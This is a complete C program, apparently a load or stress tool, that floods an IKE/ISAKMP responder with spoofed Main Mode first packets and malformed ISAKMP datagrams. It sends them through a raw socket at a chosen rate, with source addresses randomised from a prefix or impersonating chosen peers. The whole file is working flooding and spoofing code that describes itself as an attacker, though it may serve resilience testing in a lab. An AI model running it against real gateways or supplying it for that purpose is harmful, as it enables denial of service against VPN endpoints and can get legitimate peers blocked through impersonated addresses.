/*
 * ike_flood: an attacker on the link. Sends spoofed IKE Main Mode #1
 * (a well-formed ISAKMP header and SA payload, a fresh initiator cookie
 * each) and malformed ISAKMP to a responder at a fixed rate for a fixed
 * time, through a raw socket, with source addresses drawn at random from
 * a prefix or claiming given peers' addresses. IPv4. Needs CAP_NET_RAW.
 *
 * usage: ike_flood --dst A [--port 500] --rate PPS --seconds S
 *        [--spoof 198.18.0.0/15] [--claim B[,C...]] [--claim-pct 50]
 *        [--malformed-pct 10]
 * Prints what it sent and the rate it reached.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH		64
#define MAX_CLAIM	8
#define MM1_LEN		(28 + 8 + 12 + 8 + 24)

struct pkt {
	struct iphdr	ip;
	struct udphdr	udp;
	uint8_t		body[MM1_LEN];
} __attribute__((packed));

static uint64_t rng_state = 0x9e3779b97f4a7c15ULL;

static uint64_t
rng(void)
{
	/* xorshift64*: test traffic, not cryptography. */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return rng_state * 0x2545f4914f6cdd1dULL;
}

static uint64_t
now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ULL + (uint64_t)ts.tv_nsec;
}

static void
put16(uint8_t *p, unsigned v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void
put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 24);
	p[1] = (uint8_t)(v >> 16);
	p[2] = (uint8_t)(v >> 8);
	p[3] = (uint8_t)v;
}

/*
 * MM #1 (RFC 2408 §3.1, 3.4-3.6; RFC 2409 Appendix A): header, SA (DOI
 * IPsec, SIT_IDENTITY_ONLY), one proposal (ISAKMP, no SPI), one transform
 * (KEY_IKE): AES-CBC/128, SHA1, PSK, MODP-2048, 28800 s.
 */
static void
mm1(uint8_t *b)
{
	static const uint8_t attrs[] = {
		0x80, 0x01, 0x00, 0x07,		/* encryption: AES-CBC */
		0x80, 0x0e, 0x00, 0x80,		/* key length 128 */
		0x80, 0x02, 0x00, 0x02,		/* hash: SHA */
		0x80, 0x03, 0x00, 0x01,		/* auth: pre-shared key */
		0x80, 0x04, 0x00, 0x0e,		/* group 14 */
		0x80, 0x0b, 0x00, 0x01,		/* life type: seconds */
	};
	uint8_t *p = b;
	uint64_t c = rng();

	memcpy(p, &c, 8);			/* CKY-I */
	memset(p + 8, 0, 8);			/* CKY-R */
	p[16] = 1;				/* next payload: SA */
	p[17] = 0x10;				/* version 1.0 */
	p[18] = 2;				/* identity protection */
	p[19] = 0;
	put32(p + 20, 0);
	put32(p + 24, MM1_LEN);
	p += 28;
	p[0] = 0;				/* SA: last payload */
	p[1] = 0;
	put16(p + 2, 8 + 12 + 8 + 24);
	put32(p + 4, 1);			/* DOI IPsec */
	put32(p + 8, 1);			/* SIT_IDENTITY_ONLY */
	p += 12;
	p[0] = 0;				/* proposal: last */
	p[1] = 0;
	put16(p + 2, 8 + 8 + 24);
	p[4] = 1;				/* proposal 1 */
	p[5] = 1;				/* PROTO_ISAKMP */
	p[6] = 0;				/* SPI size */
	p[7] = 1;				/* one transform */
	p += 8;
	p[0] = 0;				/* transform: last */
	p[1] = 0;
	put16(p + 2, 8 + 24);
	p[4] = 1;				/* transform 1 */
	p[5] = 1;				/* KEY_IKE */
	p[6] = 0;
	p[7] = 0;
	memcpy(p + 8, attrs, sizeof(attrs));
}

/* Malformed: a header claiming more than is there, or random bytes. */
static size_t
malformed(uint8_t *b)
{
	uint64_t r = rng();

	mm1(b);
	switch (r % 4) {
	case 0:
		put32(b + 24, 4096);		/* length beyond the datagram */
		return MM1_LEN;
	case 1:
		b[16] = 0xee;			/* unknown payload type */
		return MM1_LEN;
	case 2:
		return 20;			/* shorter than a header */
	default:
		for (size_t i = 0; i < MM1_LEN; i += 8) {
			uint64_t x = rng();

			memcpy(b + i, &x, MM1_LEN - i < 8 ? MM1_LEN - i : 8);
		}
		return MM1_LEN;
	}
}

static int
parse_prefix(const char *s, uint32_t *net, uint32_t *mask)
{
	char buf[64], *slash;
	struct in_addr a;
	long len = 32;

	snprintf(buf, sizeof(buf), "%s", s);
	if ((slash = strchr(buf, '/')) != NULL) {
		*slash = '\0';
		len = strtol(slash + 1, NULL, 10);
	}
	if (inet_pton(AF_INET, buf, &a) != 1 || len < 1 || len > 32)
		return -1;
	*mask = len == 32 ? 0xffffffffU : ~(0xffffffffU >> len);
	*net = ntohl(a.s_addr) & *mask;
	return 0;
}

int
main(int argc, char **argv)
{
	static const struct option opts[] = {
		{ "dst", required_argument, NULL, 'd' },
		{ "port", required_argument, NULL, 'p' },
		{ "rate", required_argument, NULL, 'r' },
		{ "seconds", required_argument, NULL, 's' },
		{ "spoof", required_argument, NULL, 'S' },
		{ "claim", required_argument, NULL, 'c' },
		{ "claim-pct", required_argument, NULL, 'C' },
		{ "malformed-pct", required_argument, NULL, 'm' },
		{ NULL, 0, NULL, 0 }
	};
	static struct pkt pk[BATCH];
	struct mmsghdr mh[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in to;
	struct in_addr dst = { 0 };
	uint32_t claim[MAX_CLAIM], net = 0xc6120000U, mask = 0xfffe0000U;
	unsigned nclaim = 0, port = 500, claim_pct = 50, bad_pct = 10;
	double rate = 1000, seconds = 1;
	uint64_t sent = 0, errs = 0, t0, end, n_claim = 0, n_bad = 0;
	int opt, fd, one = 1;

	while ((opt = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (opt) {
		case 'd':
			if (inet_pton(AF_INET, optarg, &dst) != 1)
				return 2;
			break;
		case 'p': port = (unsigned)atoi(optarg); break;
		case 'r': rate = atof(optarg); break;
		case 's': seconds = atof(optarg); break;
		case 'S':
			if (parse_prefix(optarg, &net, &mask) != 0)
				return 2;
			break;
		case 'c': {
			char *list = strdup(optarg), *tok, *save = NULL;

			for (tok = strtok_r(list, ",", &save); tok != NULL &&
			    nclaim < MAX_CLAIM; tok = strtok_r(NULL, ",", &save)) {
				struct in_addr a;

				if (inet_pton(AF_INET, tok, &a) != 1)
					return 2;
				claim[nclaim++] = ntohl(a.s_addr);
			}
			free(list);
			break;
		}
		case 'C': claim_pct = (unsigned)atoi(optarg); break;
		case 'm': bad_pct = (unsigned)atoi(optarg); break;
		default:
			return 2;
		}
	}
	if (dst.s_addr == 0 || rate <= 0 || seconds <= 0 || claim_pct > 100 ||
	    bad_pct > 100) {
		fprintf(stderr, "usage: ike_flood --dst A [--port 500] --rate "
		    "PPS --seconds S [--spoof NET/LEN] [--claim B,C] "
		    "[--claim-pct N] [--malformed-pct N]\n");
		return 2;
	}
	rng_state ^= (uint64_t)now_ns() ^ ((uint64_t)getpid() << 32);
	if ((fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)) < 0 ||
	    setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) != 0) {
		perror("ike_flood: raw socket");
		return 1;
	}
	memset(&to, 0, sizeof(to));
	to.sin_family = AF_INET;
	to.sin_addr = dst;
	t0 = now_ns();
	end = t0 + (uint64_t)(seconds * 1e9);
	for (;;) {
		uint64_t now = now_ns(), due;
		unsigned k, n;

		if (now >= end)
			break;
		/* Packets due by now, by the rate; at most a batch. */
		due = (uint64_t)((double)(now - t0) * rate / 1e9) + 1;
		if (due <= sent) {
			struct timespec ts = { 0, 200000 };

			nanosleep(&ts, NULL);
			continue;
		}
		n = due - sent > BATCH ? BATCH : (unsigned)(due - sent);
		for (k = 0; k < n; k++) {
			struct pkt *p = &pk[k];
			uint64_t r = rng();
			uint32_t src;
			size_t blen = MM1_LEN;

			if (nclaim > 0 && r % 100 < claim_pct) {
				src = claim[(r >> 8) % nclaim];
				n_claim++;
			} else
				src = net | ((uint32_t)(r >> 16) & ~mask);
			if ((r >> 40) % 100 < bad_pct) {
				blen = malformed(p->body);
				n_bad++;
			} else
				mm1(p->body);
			memset(&p->ip, 0, sizeof(p->ip));
			p->ip.version = 4;
			p->ip.ihl = 5;
			p->ip.ttl = 64;
			p->ip.protocol = IPPROTO_UDP;
			p->ip.saddr = htonl(src);
			p->ip.daddr = dst.s_addr;
			p->ip.tot_len = htons((uint16_t)(sizeof(p->ip) +
			    sizeof(p->udp) + blen));
			p->udp.source = htons(500);
			p->udp.dest = htons((uint16_t)port);
			p->udp.len = htons((uint16_t)(sizeof(p->udp) + blen));
			p->udp.check = 0;
			iov[k].iov_base = p;
			iov[k].iov_len = sizeof(p->ip) + sizeof(p->udp) + blen;
			memset(&mh[k], 0, sizeof(mh[k]));
			mh[k].msg_hdr.msg_name = &to;
			mh[k].msg_hdr.msg_namelen = sizeof(to);
			mh[k].msg_hdr.msg_iov = &iov[k];
			mh[k].msg_hdr.msg_iovlen = 1;
		}
		int r = sendmmsg(fd, mh, n, 0);

		if (r < 0) {
			if (errno != ENOBUFS && errno != EAGAIN &&
			    errno != EINTR) {
				perror("ike_flood: sendmmsg");
				return 1;
			}
			errs += n;	/* dropped locally: keep the pace */
			sent += n;
			continue;
		}
		sent += n;
		errs += n - (unsigned)r;
	}
	double secs = (double)(now_ns() - t0) / 1e9;

	printf("sent=%llu seconds=%.2f rate=%.0f claimed=%llu malformed=%llu "
	    "local_drops=%llu\n", (unsigned long long)(sent - errs), secs,
	    (double)(sent - errs) / secs, (unsigned long long)n_claim,
	    (unsigned long long)n_bad, (unsigned long long)errs);
	close(fd);
	return 0;
}
